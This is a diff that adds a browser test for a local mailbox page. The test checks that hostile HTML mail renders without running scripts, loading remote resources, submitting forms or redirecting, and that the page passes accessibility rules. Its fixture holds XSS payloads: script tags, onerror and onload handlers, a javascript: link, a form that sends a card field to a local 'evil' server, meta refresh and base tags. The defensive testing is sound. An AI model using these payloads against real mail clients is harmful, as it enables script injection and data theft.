@@ -1,0 +1,127 @@
+/** The mailbox page in a real browser: hostile mail stays text, and no rule of accessibility is broken. */
+import { mkdtempSync, rmSync } from 'node:fs';
+import { createServer, type Server } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { AxeBuilder } from '@axe-core/playwright';
+import { type RunningMailbox, startMailbox } from '@undertow/sandbox/mailbox/mailbox.ts';
+import { createTransport } from 'nodemailer';
+import type { Browser, Page } from 'playwright-core';
+import { afterAll, beforeAll, expect, test } from 'vitest';
+import { launchBrowser } from '#tests/browser.ts';
+
+const RULES = ['wcag2a', 'wcag2aa', 'wcag21a', 'wcag21aa', 'wcag22aa'];
+const SUBJECT = '<img src=x onerror="document.title=\'run\'">';
+
+/** `evil`: an origin that must never be called. */
+function hostile(evil: string): string {
+  return `<h1>Your plan</h1><script>top.document.title='run'</script><img src="${evil}/pixel" onerror="document.title='run'">
+<a href="javascript:opener.document.title='run'">Click</a><form action="${evil}/"><input name="card"><button>Send</button></form>
+<link rel="stylesheet" href="${evil}/x.css"><meta http-equiv="refresh" content="0;url=${evil}/refresh"><base href="${evil}/">
+<iframe src="${evil}/frame"></iframe><svg onload="document.title='run'"></svg>`;
+}
+
+let dataDir: string;
+let mailbox: RunningMailbox;
+let origin: string;
+let browser: Browser;
+const called: string[] = [];
+const evil = createServer((request, response) => {
+  called.push(request.url ?? '');
+  response.end();
+});
+
+async function listen(server: Server): Promise<number> {
+  await new Promise<void>((resolve) => {
+    server.listen(0, '127.0.0.1', resolve);
+  });
+  return (server.address() as AddressInfo).port;
+}
+
+async function freePort(): Promise<number> {
+  const server = createServer();
+  const port = await listen(server);
+  await new Promise((resolve) => {
+    server.close(resolve);
+  });
+  return port;
+}
+
+beforeAll(async () => {
+  dataDir = mkdtempSync(join(tmpdir(), 'undertow-mailbox-'));
+  const [pagePort, smtpPort] = [await freePort(), await freePort()];
+  mailbox = await startMailbox({ dataDir, host: '127.0.0.1', pagePort, smtpPort });
+  origin = `http://localhost:${pagePort}`;
+  const transport = createTransport(`smtp://127.0.0.1:${smtpPort}`);
+  const html = hostile(`http://127.0.0.1:${await listen(evil)}`);
+  const from = 'hello@undertow.local';
+  await transport.sendMail({
+    from,
+    to: 'jane@example.com',
+    subject: SUBJECT,
+    text: `${html}\nhttps://undertow.example/settings?a=1&b=2`,
+    html,
+  });
+  await transport.sendMail({ from, to: 'jane@example.com', subject: 'Welcome', text: 'Hello Jane' });
+  browser = await launchBrowser();
+});
+afterAll(async () => {
+  await browser?.close();
+  await mailbox?.close();
+  evil.close();
+  rmSync(dataDir, { recursive: true, force: true });
+});
+
+async function openPage(colorScheme: 'light' | 'dark'): Promise<Page> {
+  const context = await browser.newContext({ colorScheme, locale: 'en-GB' });
+  const page = await context.newPage();
+  await page.goto(origin);
+  return page;
+}
+
+async function violations(page: Page): Promise<string[]> {
+  // The frame holds what the sender wrote, which is not the mailbox's to mend
+  const result = await new AxeBuilder({ page }).withTags(RULES).exclude('iframe').analyze();
+  return result.violations.map(
+    (found) => `${found.id}: ${found.nodes.map((node) => node.target.join(' ')).join(', ')}`,
+  );
+}
+
+test('a hostile mail is read without running, loading, sending or leading away', async () => {
+  const page = await openPage('light');
+  await page.getByRole('link', { name: SUBJECT }).click();
+  await page.getByRole('heading', { name: SUBJECT }).waitFor();
+  expect(await page.locator('pre').textContent()).toContain('<svg onload=');
+  const frame = page.frameLocator('iframe');
+  await frame.getByRole('heading', { name: 'Your plan' }).waitFor();
+  await frame.getByRole('button', { name: 'Send' }).click();
+  await frame.getByText('Click').click();
+  await page.waitForTimeout(500);
+  expect(await page.title()).toBe(`${SUBJECT} · Mailbox`);
+  expect(page.url()).toContain(`${origin}/mail/`);
+  expect(called).toEqual([]);
+  const link = page.getByRole('link', { name: 'https://undertow.example/settings?a=1&b=2' });
+  expect(await link.getAttribute('href')).toBe('https://undertow.example/settings?a=1&b=2');
+  await page.context().close();
+});
+
+test.each(['light', 'dark'] as const)('in %s no rule of accessibility is broken', async (colorScheme) => {
+  const page = await openPage(colorScheme);
+  expect(await violations(page)).toEqual([]);
+  await page.getByRole('link', { name: SUBJECT }).click();
+  await page.frameLocator('iframe').getByRole('heading', { name: 'Your plan' }).waitFor();
+  expect(await violations(page)).toEqual([]);
+  await page.context().close();
+});
+
+test('mail can be refused, accepted again and deleted from the page', async () => {
+  const page = await openPage('light');
+  await page.getByLabel('Delivery').selectOption('busy');
+  await page.getByRole('button', { name: 'Set' }).click();
+  await page.locator('option[value=busy][selected]').waitFor({ state: 'attached' });
+  await page.getByRole('button', { name: 'Delete all' }).click();
+  await page.getByText('No mail yet.').waitFor();
+  expect(await violations(page)).toEqual([]);
+  await page.context().close();
+});
